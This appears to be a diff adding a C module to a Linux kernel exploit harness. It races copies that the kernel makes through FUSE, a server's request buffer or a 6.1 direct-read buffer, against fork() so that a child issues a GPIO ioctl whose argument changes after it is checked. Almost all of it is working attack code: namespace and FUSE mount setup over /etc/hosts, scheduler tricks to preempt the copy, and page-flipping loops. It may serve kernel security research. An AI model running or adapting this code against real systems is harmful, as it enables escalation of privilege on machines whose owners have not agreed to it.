@@ -1,0 +1,450 @@
+// SPDX-License-Identifier: GPL-2.0-or-later
+/*
+ * Who writes: a copy that a thread is in, into a page that the kernel holds by a reference and no
+ * pin. Another thread forks; the child shares the page with the copy, and shows nothing of it.
+ *
+ * FUSE makes both kinds. A server reads a request from /dev/fuse: fuse_copy_fill() in fs/fuse/dev.c
+ * takes the page of the server's buffer, 6.1 to 7.3. A client reads a file past the cache:
+ * fuse_get_user_pages() in fs/fuse/file.c takes the pages of the client's buffer until the server
+ * has answered, in 6.1; later versions pin them, and fork() copies what is pinned. Direct input and
+ * output of other file systems is as that.
+ */
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/fuse.h>
+#include <linux/gpio.h>
+#include <sched.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/utsname.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include "attack.h"
+
+#define MOUNT_POINT "/etc/hosts" /* any file; in a mount namespace of our own */
+#define NUM_PAGES   4096	 /* of one request */
+#define PAGES_LIMIT "/proc/sys/fs/fuse/max_pages_limit" /* since 6.13 */
+#define DATA	    (NUM_PAGES * PAGE)
+#define HEAD	    (sizeof(struct fuse_in_header) + sizeof(struct fuse_write_in))
+/* Where a page says that its copy has begun, and where the argument is, whose copy comes last. */
+#define BEGUN	 256
+#define ARGUMENT (PAGE - 640)
+
+/* What the processes tell each other. */
+static volatile struct {
+	int asked;    /* so many requests of the file system are to be made */
+	int arrived;  /* have reached the server */
+	int answered; /* and are over */
+	bool ready;   /* the child requests */
+} * say;
+
+static int device;   /* /dev/fuse */
+static int go[2];    /* a pipe: the client is to do its next request */
+static char *buffer; /* where what is written lies, in whole pages */
+static char argument[sizeof(struct gpio_v2_line_request)]; /* the calm one */
+
+/* ---- a file system of one file, its root --------------------------------------------------- */
+
+static void write_file(const char *path, const char *text)
+{
+	int fd = open(path, O_WRONLY | O_CLOEXEC);
+
+	if (fd < 0 || write(fd, text, strlen(text)) < 0)
+		broken(path);
+	close(fd);
+}
+
+static void mount_file(void)
+{
+	char options[128], map[32];
+
+	snprintf(map, sizeof(map), "0 %d 1", getuid());
+	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
+		absent("users may not make namespaces");
+	write_file("/proc/self/setgroups", "deny");
+	write_file("/proc/self/uid_map", map);
+	write_file("/proc/self/gid_map", map);
+	device = open("/dev/fuse", O_RDWR | O_CLOEXEC); /* of the namespace that mounts it */
+	if (device < 0)
+		absent("no /dev/fuse");
+	snprintf(options, sizeof(options), "fd=%d,rootmode=100600,user_id=0,group_id=0", device);
+	if (mount("attack", MOUNT_POINT, "fuse", MS_NOSUID | MS_NODEV, options))
+		broken("mount");
+}
+
+static void answer(const struct fuse_in_header *request, int error, const void *data, size_t size)
+{
+	struct fuse_out_header head = {
+		.len = sizeof(head) + size,
+		.error = error,
+		.unique = request->unique,
+	};
+	char reply[sizeof(head) + PAGE];
+
+	memcpy(reply, &head, sizeof(head));
+	memcpy(reply + sizeof(head), data, size);
+	if (write(device, reply, head.len) != (ssize_t)head.len)
+		broken("an answer to FUSE");
+}
+
+static void answer_init(const struct fuse_in_header *request)
+{
+	struct fuse_init_out init = {
+		.major = FUSE_KERNEL_VERSION,
+		.minor = 31,
+		.flags = FUSE_BIG_WRITES | FUSE_MAX_PAGES,
+		.max_write = DATA,
+		.max_pages = NUM_PAGES,
+	};
+
+	answer(request, 0, &init, sizeof(init));
+}
+
+static void answer_attr(const struct fuse_in_header *request)
+{
+	struct fuse_attr_out attr = {
+		.attr = {.ino = FUSE_ROOT_ID, .mode = S_IFREG | 0600, .nlink = 1, .size = DATA},
+	};
+
+	answer(request, 0, &attr, sizeof(attr));
+}
+
+static void answer_write(const struct fuse_in_header *request)
+{
+	const struct fuse_write_in *in = (const void *)(request + 1);
+	struct fuse_write_out out = {.size = in->size};
+
+	answer(request, 0, &out, sizeof(out));
+	say->answered++;
+}
+
+/* The answer comes while the child requests. */
+static void answer_read(const struct fuse_in_header *request, const void *data)
+{
+	say->arrived++;
+	while (!say->ready)
+		;
+	random_pause(10 * SHORT);
+	answer(request, 0, data, PAGE);
+	say->answered++;
+}
+
+/* Requests are read to @at, so many bytes; @data is what a reader of the file gets. */
+static void serve(char *at, const void *data)
+{
+	const struct fuse_in_header *request = (const void *)at;
+	struct fuse_open_out opened = {.open_flags = FOPEN_DIRECT_IO};
+
+	while (read(device, at, HEAD + DATA) > 0) {
+		switch (request->opcode) {
+		case FUSE_INIT:
+			answer_init(request);
+			break;
+		case FUSE_GETATTR:
+			answer_attr(request);
+			break;
+		case FUSE_OPEN:
+			answer(request, 0, &opened, sizeof(opened));
+			break;
+		case FUSE_WRITE:
+			answer_write(request);
+			break;
+		case FUSE_READ:
+			answer_read(request, data);
+			break;
+		case FUSE_INTERRUPT:
+		case FUSE_FORGET:
+			break;
+		default:
+			answer(request, -ENOSYS, "", 0);
+		}
+	}
+	broken("a request of FUSE");
+}
+
+static int open_file(void)
+{
+	int fd = open(MOUNT_POINT, O_RDWR | O_CLOEXEC);
+
+	if (fd < 0)
+		broken(MOUNT_POINT);
+	return fd;
+}
+
+/* ---- the child ----------------------------------------------------------------------------- */
+
+static bool is_child;
+static unsigned long child_flags; /* of its clone() */
+
+/*
+ * The line that the child may have is held, so that its request fails until it is for another one:
+ * a request that succeeds is written back, and from then on the page is the child's own.
+ */
+static void hold_line(void)
+{
+	struct gpio_v2_line_request request = {
+		.num_lines = 1,
+		.offsets = {ALLOWED},
+		.config.flags = GPIO_V2_LINE_FLAG_INPUT,
+	};
+
+	if (ioctl(chip, GPIO_V2_GET_LINE_IOCTL, &request))
+		broken("the line is not to be held");
+}
+
+/* Before each attempt of the child, until what is under way is over. */
+static void go_on(const struct flip *flip)
+{
+	if (*flip->word == flip->raced || say->answered == say->asked)
+		_exit(0);
+	say->ready = true;
+}
+
+/* The descriptor of a child that had the same table. */
+static void take_descriptor(void)
+{
+	if (is_forbidden(next_fd)) {
+		tally->caught++;
+		close(next_fd);
+		ask_for_reset();
+	}
+}
+
+/* Forks one that requests with what lies in the page @at; returns true in it, and else when it has
+ * ended. */
+static bool request_in_fork(struct flip *flip, char *at)
+{
+	int status = 0;
+	pid_t child;
+
+	flip->argument = at + ARGUMENT;
+	flip->word = flip->argument;
+	say->ready = false;
+	child = start_process(child_flags);
+	is_child = !child;
+	if (is_child) {
+		use_processor(1);
+		return true;
+	}
+	while (!say->ready && !waitpid(child, &status, WNOHANG))
+		sched_yield();
+	random_pause(SHORT);
+	waitpid(child, &status, 0);
+	if (child_flags & CLONE_FILES)
+		take_descriptor();
+	if (WIFSIGNALED(status))
+		die(0);
+	return false;
+}
+
+/* The next request of the file system. */
+static void ask(void)
+{
+	say->asked++;
+	if (write(go[1], "", 1) != 1)
+		broken("a pipe");
+}
+
+static void wait_for_answer(void)
+{
+	while (say->answered != say->asked)
+		usleep(500);
+}
+
+static void prepare(const struct flip *flip)
+{
+	memcpy(argument, flip->argument, sizeof(argument));
+	say = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	buffer =
+		mmap(NULL, DATA + PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	if (say == MAP_FAILED || buffer == MAP_FAILED || pipe2(go, O_CLOEXEC))
+		broken("mmap or pipe");
+	hold_line();
+	mount_file();
+}
+
+/* An image of such a page with the raced argument. */
+static void make_raced(char *page, const struct flip *flip)
+{
+	page[BEGUN] = true;
+	memcpy(page + ARGUMENT, argument, sizeof(argument));
+	memcpy(page + ARGUMENT, &flip->raced, sizeof(flip->raced));
+}
+
+static void make_calm(char *page)
+{
+	page[BEGUN] = false;
+	memcpy(page + ARGUMENT, argument, sizeof(argument));
+}
+
+/* ---- a copy into a server's buffer --------------------------------------------------------- */
+
+/* Each page of the buffer is to hold the raced argument. */
+static void write_on(const struct flip *flip)
+{
+	char *area =
+		mmap(NULL, PAGE + DATA, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	char *data = area + PAGE - HEAD, byte; /* as it lies in the server's buffer */
+	int fd;
+
+	close(device); /* or its request would wait for itself, when the server is gone */
+	fd = open_file();
+	for (size_t page = 1; page < NUM_PAGES; page++)
+		make_raced(data + page * PAGE, flip);
+	while (read(go[0], &byte, 1) == 1)
+		if (pwrite(fd, data + HEAD, DATA, 0) != DATA)
+			broken("a write to FUSE");
+	_exit(0);
+}
+
+/*
+ * On the processor of who asks, at the lowest priority: who asks runs only when the copy is over,
+ * or preempted.
+ */
+static void *serve_idly(void *unused)
+{
+	struct sched_param none = {0};
+
+	use_processor(0);
+	if (sched_setscheduler(0, SCHED_IDLE, &none))
+		broken("SCHED_IDLE");
+	serve(buffer, unused);
+	return NULL;
+}
+
+static bool is_half_copied(const char *page, const struct flip *flip)
+{
+	return *(volatile const char *)(page + BEGUN) &&
+	       *(volatile const __u32 *)(page + ARGUMENT) == flip->calm;
+}
+
+/* The page in which the copy is preempted; NULL: it is over. */
+static char *halted_page(const struct flip *flip)
+{
+	while (say->answered != say->asked) {
+		for (size_t i = 1; i < NUM_PAGES; i++)
+			if (is_half_copied(buffer + i * PAGE, flip))
+				return buffer + i * PAGE;
+		usleep(50);
+	}
+	return NULL;
+}
+
+static void before_copy(struct flip *flip)
+{
+	if (is_child) {
+		go_on(flip);
+		return;
+	}
+	while (!*(volatile bool *)&tally->stop) {
+		char *page;
+
+		for (size_t i = 1; i < NUM_PAGES; i++)
+			make_calm(buffer + i * PAGE);
+		ask();
+		page = halted_page(flip);
+		if (page && request_in_fork(flip, page))
+			return;
+		wait_for_answer();
+	}
+}
+
+static void run_copy(struct flip *flip)
+{
+	FILE *file = fopen(PAGES_LIMIT, "re");
+	int limit = 0;
+
+	/* So many pages take longer than the kernel lets a copy run; with fewer it takes luck. */
+	if (!file || fscanf(file, "%d", &limit) != 1 || limit < NUM_PAGES)
+		absent("no copy takes long enough to be preempted");
+	fclose(file);
+	prepare(flip);
+	if (!start_process(0))
+		write_on(flip);
+	use_processor(0);
+	start_thread(serve_idly, NULL);
+	attempts(flip);
+}
+
+static void run_copy_catch(struct flip *flip)
+{
+	child_flags = CLONE_FILES;
+	run_copy(flip);
+}
+
+/* ---- a direct read into a client's buffer -------------------------------------------------- */
+
+static void *read_on(void *unused)
+{
+	int fd = open_file();
+	char byte;
+
+	(void)unused;
+	while (read(go[0], &byte, 1) == 1)
+		if (pread(fd, buffer, PAGE, 0) != PAGE)
+			broken("a read of FUSE");
+	return NULL;
+}
+
+static void before_direct(struct flip *flip)
+{
+	if (is_child) {
+		go_on(flip);
+		return;
+	}
+	while (!*(volatile bool *)&tally->stop) {
+		make_calm(buffer);
+		ask();
+		while (say->arrived != say->asked)
+			usleep(500);
+		if (request_in_fork(flip, buffer))
+			return;
+		wait_for_answer();
+	}
+}
+
+static void run_direct(struct flip *flip)
+{
+	static char data[PAGE];
+	struct utsname kernel;
+	int major, minor;
+
+	if (uname(&kernel) || sscanf(kernel.release, "%d.%d", &major, &minor) != 2)
+		broken("uname");
+	if (major > 6 || minor > 1)
+		absent("this kernel pins what a direct read goes to, and fork() copies it");
+	prepare(flip);
+	make_raced(data, flip);
+	if (!start_process(0))
+		serve(buffer, data);
+	close(device); /* as above */
+	start_thread(read_on, NULL);
+	attempts(flip);
+}
+
+static void run_direct_catch(struct flip *flip)
+{
+	child_flags = CLONE_FILES;
+	run_direct(flip);
+}
+
+const struct writer fuse_writers[] = {
+	{.name = "fuse", .run = run_copy, .before = before_copy},
+	{.name = "fuse-catch",
+	 .run = run_copy_catch,
+	 .before = before_copy,
+	 .catches = true,
+	 .keeps = true},
+	{.name = "direct", .run = run_direct, .before = before_direct},
+	{.name = "direct-catch",
+	 .run = run_direct_catch,
+	 .before = before_direct,
+	 .catches = true,
+	 .keeps = true},
+	{0},
+};
